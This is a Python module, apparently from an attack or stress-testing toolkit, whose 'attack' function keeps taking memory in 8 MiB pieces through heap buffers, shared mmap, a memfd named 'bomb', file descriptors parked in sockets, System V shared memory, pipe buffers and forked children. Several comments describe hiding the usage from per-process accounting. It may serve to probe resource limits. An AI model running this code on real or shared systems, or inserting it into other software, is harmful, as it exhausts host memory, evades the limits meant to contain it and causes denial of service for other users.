"""Take memory of one kind, a piece at a time, and keep it."""

import ctypes
import mmap
import os
import socket
import time

from payloads.kernel import syscall

kept = []
_PIECE = 8 << 20
_IPC_PRIVATE, _IPC_RMID = 0, 0


def attack(kind, size):
    for _ in range(size // _PIECE):
        kept.append(_TAKERS[kind]())
    return len(kept) * _PIECE


def _heap():
    return b"x" * _PIECE


def _shared():
    area = mmap.mmap(-1, _PIECE, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    area.write(b"x" * _PIECE)
    return area


def _memfd():
    fd = os.memfd_create("bomb")
    os.write(fd, b"x" * _PIECE)
    return fd


def _memfd_in_flight():
    """A file that nobody has open or mapped: it waits in a socket."""
    ours, theirs = socket.socketpair()
    fd = _memfd()
    socket.send_fds(ours, [b"x"], [fd])
    os.close(fd)
    return ours, theirs


def _system_v():
    number = syscall("shmget", _IPC_PRIVATE, _PIECE, 0o1600)
    address = syscall("shmat", number, None, 0)
    ctypes.memset(address, 1, _PIECE)
    syscall("shmctl", number, _IPC_RMID, None)
    return address


def _pipes():
    """What pipes hold belongs to no process's memory."""
    held = 0
    pipes = []
    while held < _PIECE:
        read, write = os.pipe2(os.O_NONBLOCK)
        held += os.write(write, b"x" * 65536)
        pipes.append((read, write))
    return pipes


def _children():
    """A little each, in many processes."""
    ready, told = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            kept.append(b"x" * _PIECE)
            os.write(told, b"x")
            time.sleep(60)
        finally:
            os._exit(0)
    os.close(told)
    os.read(ready, 1)
    os.close(ready)
    return pid


_TAKERS = {
    "heap": _heap,
    "shared": _shared,
    "memfd": _memfd,
    "memfd in flight": _memfd_in_flight,
    "System V": _system_v,
    "children": _children,
    "pipes": _pipes,
}
